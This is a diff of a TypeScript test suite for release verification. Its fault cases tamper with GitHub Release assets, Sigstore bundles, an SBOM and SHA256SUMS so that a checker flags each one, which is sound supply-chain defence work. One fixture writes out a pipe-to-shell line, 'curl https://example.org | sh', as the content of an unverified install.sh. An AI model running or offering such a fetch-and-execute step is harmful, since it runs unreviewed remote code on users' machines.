@@ -1,6 +1,8 @@
 import { writeFileSync } from 'node:fs';
 import { join } from 'node:path';
-import { formatChecksums } from '../../src/release/checksums.ts';
+import { PREDICATE_TYPES, STATEMENT_TYPE } from '../../src/attestation/statement.ts';
+import { CHECKSUMS_FILE, formatChecksums } from '../../src/release/checksums.ts';
+import { SBOM_FILE } from '../../src/release/layout.ts';
 import { buildWheel } from '../support/distribution-builder.ts';
 import { sha256 } from '../support/index-server.ts';
 import { PUBLISHER, SDIST, TAG, WHEEL, type Json, type Published } from '../support/published.ts';
@@ -10,19 +12,14 @@ import type { FaultCase } from './types.ts';
 /** Faults after the upload that verify-published has to meet, over real HTTP, with real signatures. */
 
 const OTHER = buildWheel({ files: { 'demo/evil.py': 'print("not reviewed")\n' } });
+const EMPTY = Buffer.from('{}\n');
 const STRANGE = 'demo-1.0-cp312-cp312-win_amd64.whl';
 const wheel = (release: Published) => release.files.find(({ filename }) => filename === WHEEL)!;
 const asset = (release: Published) => (release.github.state.releases[0]!.assets as Json[])[0]!;
 const listOf = ({ files }: Published) =>
   formatChecksums(files.map(({ filename, bytes }) => ({ name: filename, sha256: sha256(bytes) })));
-const withList = ({ github: { state } }: Published, text: string) => {
-  state.assets[9] = Buffer.from(text);
-  (state.releases[0]!.assets as Json[]).push({
-    id: 9,
-    name: 'SHA256SUMS',
-    size: text.length,
-    digest: `sha256:${sha256(Buffer.from(text))}`,
-  });
+const withList = (release: Published, text: string) => {
+  release.attach('SHA256SUMS', Buffer.from(text));
 };
 const onGitHub = (release: Published, changes: object) => {
   release.github.state.releases[0] = { ...release.github.state.releases[0]!, ...changes };
@@ -309,8 +306,80 @@ const STOPS: readonly Case[] = [
   {
     name: 'release-asset-missing',
     what: 'A file of the GitHub Release is deleted',
-    spoil: (release) => void (release.github.state.releases[0]!.assets as Json[]).pop(),
+    spoil(release) {
+      release.attach(SDIST);
+    },
     message: `the GitHub Release of ${TAG} has no ${SDIST}`,
+  },
+  {
+    name: 'release-script-added',
+    what: 'A script that people pipe into a shell is added to the GitHub Release',
+    spoil(release) {
+      release.attach('install.sh', Buffer.from('curl https://example.org | sh\n'));
+    },
+    message: `the GitHub Release of ${TAG} has install.sh, which nobody verified`,
+  },
+  {
+    name: 'release-bundle-replaced',
+    what: 'A signed bundle of the GitHub Release is replaced',
+    spoil(release) {
+      release.attach('provenance.sigstore.json', EMPTY);
+    },
+    message: `provenance.sigstore.json of the GitHub Release has the SHA-256 ${sha256(EMPTY)}`,
+  },
+  {
+    name: 'release-bundle-missing',
+    what: 'A signed bundle of the GitHub Release is deleted',
+    spoil(release) {
+      release.attach('verification-summary.sigstore.json');
+    },
+    message: `the GitHub Release of ${TAG} has no verification-summary.sigstore.json`,
+  },
+  {
+    name: 'release-sbom-replaced',
+    what: 'The SBOM of the GitHub Release is replaced by one that nobody signed',
+    spoil(release) {
+      release.attach(SBOM_FILE, EMPTY);
+    },
+    message: `${SBOM_FILE} of the GitHub Release has the SHA-256 ${sha256(EMPTY)}`,
+  },
+  {
+    name: 'release-sbom-and-bundle-replaced',
+    what: 'SBOM and its signed bundle are replaced by a pair that fits together',
+    async spoil(release) {
+      const predicate = { bomFormat: 'CycloneDX' };
+      const bundle = await release.sign({
+        _type: STATEMENT_TYPE,
+        subject: release.files.map(({ filename, bytes }) => ({
+          name: filename,
+          digest: { sha256: sha256(bytes) },
+        })),
+        predicateType: PREDICATE_TYPES.sbom,
+        predicate,
+      });
+      release.attach('sbom.sigstore.json', Buffer.from(JSON.stringify(bundle)));
+      release.attach(SBOM_FILE, Buffer.from(`${JSON.stringify(predicate, undefined, 2)}\n`));
+    },
+    message: 'sbom.sigstore.json, which says what it has to be, is not what was signed',
+  },
+  {
+    name: 'release-checksums-missing',
+    what: 'SHA256SUMS of a signed release is deleted from the GitHub Release',
+    spoil(release) {
+      release.attach(CHECKSUMS_FILE);
+    },
+    message: `the GitHub Release of ${TAG} has no ${CHECKSUMS_FILE}`,
+  },
+  {
+    name: 'release-list-of-another-digest',
+    what: 'Only the digest of a long list travels, and SHA256SUMS of the Release is another list',
+    spoil(release) {
+      const checksums = `sha256:${sha256(Buffer.from(listOf(release)))}`;
+      delete release.inputs.manifest;
+      release.inputs = { ...release.inputs, release: ['pypi:demo==1.0'], tag: TAG, checksums };
+      withList(release, formatChecksums([{ name: WHEEL, sha256: sha256(OTHER) }]));
+    },
+    message: `${CHECKSUMS_FILE} has the SHA-256 `,
   },
   {
     name: 'release-changeable',
